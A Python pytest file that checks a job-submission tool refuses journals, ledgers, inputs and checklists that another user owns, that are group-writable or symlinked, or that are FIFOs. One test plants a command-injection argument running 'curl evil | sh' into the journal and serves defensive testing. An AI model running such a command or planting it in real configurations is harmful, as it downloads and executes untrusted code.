"""Trust: a submission's journal, plans, checklist and frozen inputs are used only when they
are this user's, writable by it alone, and regular files; anything else is refused in one
line, a FIFO without blocking, and nothing is submitted."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest

from pytest_haico.submit.inputs import InputsError, check_trusted
from tests.submit.campaign import Campaign


def _refused(done: subprocess.CompletedProcess[str], *needles: str) -> None:
    assert done.returncode == 2, done.stdout + done.stderr
    [line] = done.stderr.splitlines()
    assert line.startswith("haico: ")
    for needle in needles:
        assert needle in line, line


@pytest.fixture
def timed_out(campaign: Campaign) -> Campaign:
    """A smoke stage whose task 1 ran out of walltime: `continue` would rerun it."""
    campaign.slurm.end(campaign.smoke_long(), 1, "TIMEOUT")
    return campaign


def test_a_journal_another_user_owns_is_refused_with_the_command_it_plants(
    timed_out: Campaign,
) -> None:
    journal = timed_out.submission().journal
    entries = [json.loads(line) for line in journal.read_text().splitlines()]
    planted = "--haico-backend-cmd=sh -c 'curl evil | sh'"
    entries[0]["plan"]["pytest_args"].append(planted)
    journal.write_text("".join(json.dumps(entry) + "\n" for entry in entries))
    os.chown(journal, 65534, 65534)
    before = timed_out.slurm.jobs()

    done = timed_out.haico("continue", "demo")
    _refused(done, f"{journal} is owned by uid 65534", "yours and writable by you alone")
    assert timed_out.slurm.jobs() == before, "something was submitted"

    # Owned by this user again but writable by its group: refused too.
    os.chown(journal, os.getuid(), os.getgid())
    journal.chmod(0o660)
    _refused(timed_out.haico("continue", "demo"), "is writable by group (mode 0660)")


def test_a_ledger_directory_others_can_write_is_refused_and_nothing_submitted(
    timed_out: Campaign,
) -> None:
    ledger_dir = timed_out.campaign_dir / "demo" / "ledger"
    ledger_dir.mkdir(parents=True, exist_ok=True)
    ledger_dir.chmod(0o777)  # anyone could plant records saying what is done
    before = timed_out.slurm.jobs()
    problem = f"the results directory {ledger_dir} is writable by group and others (mode 0777)"
    _refused(timed_out.haico("continue", "demo"), problem, "chmod go-w")
    assert timed_out.slurm.jobs() == before, "something was submitted"


def test_a_fifo_in_place_of_the_journal_is_refused_without_blocking(timed_out: Campaign) -> None:
    journal = timed_out.submission().journal
    journal.unlink()
    os.mkfifo(journal, 0o600)
    _refused(timed_out.haico("continue", "demo"), f"{journal} is not a regular file")
    _refused(
        timed_out.haico("submit", "demo", "--stage", "smoke", "--stratum", "long"),
        f"{journal} is not a regular file",
    )


@pytest.mark.parametrize("planted", ["group-writable input", "symlinked checklist"])
def test_a_frozen_input_or_checklist_another_user_could_change_is_refused(
    timed_out: Campaign, planted: str
) -> None:
    submission = timed_out.submission()
    if planted == "group-writable input":
        target = next((submission.experiments / "scripts").iterdir())
        target.chmod(0o664)
        problem = "is writable by group (mode 0664)"
    else:
        target = submission.checklist
        target.unlink()
        target.symlink_to("/etc/hostname")
        problem = "is a symbolic link"
    before = timed_out.slurm.jobs()
    _refused(timed_out.haico("continue", "demo"), f"{target} {problem}")
    assert timed_out.slurm.jobs() == before


def test_a_submission_frozen_under_a_group_writable_umask_is_still_this_users_alone(
    campaign: Campaign,
) -> None:
    done = campaign.haico("submit", "demo", "--stage", "smoke", "--stratum", "long", umask=0o002)
    assert done.returncode == 0, done.stderr
    again = campaign.haico("continue", "demo", umask=0o002)
    assert again.returncode == 0, again.stderr
    modes = {
        path.relative_to(campaign.submission().dir): path.stat().st_mode & 0o022
        for path in campaign.submission().dir.rglob("*")
        if path.parent.name != "logs"
    }
    assert set(modes.values()) == {0}, modes


def test_a_temporary_file_renamed_into_place_while_the_tree_is_checked_is_not_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Four `haico submit` at once: one checks the frozen tree (before it waits for the lock)
    # while the holder renames its checklist's temporary file into place. The entry listed a
    # moment before is gone when it is looked at; that is no reason to refuse the submission.
    directory = tmp_path / "ec5aa43d8e94"
    (directory / "experiments").mkdir(parents=True)
    (directory / "experiments" / "demo.toml").write_text("")
    temp = directory / ".checklist.md.4711.9014a909.tmp"
    temp.write_text("# checklist\n")
    lstat = os.lstat

    def renamed_just_before(path: str | os.PathLike[str]) -> os.stat_result:
        if Path(path) == temp:
            temp.rename(directory / "checklist.md")  # the holder's os.replace, this moment
        return lstat(path)

    monkeypatch.setattr(os, "lstat", renamed_just_before)
    check_trusted(directory)
    monkeypatch.undo()
    assert (directory / "checklist.md").is_file() and not temp.exists()

    # A tree that is gone as a whole is still an error, in one line.
    with pytest.raises(InputsError, match=f"cannot read {tmp_path / 'gone'}: it is gone"):
        check_trusted(tmp_path / "gone")
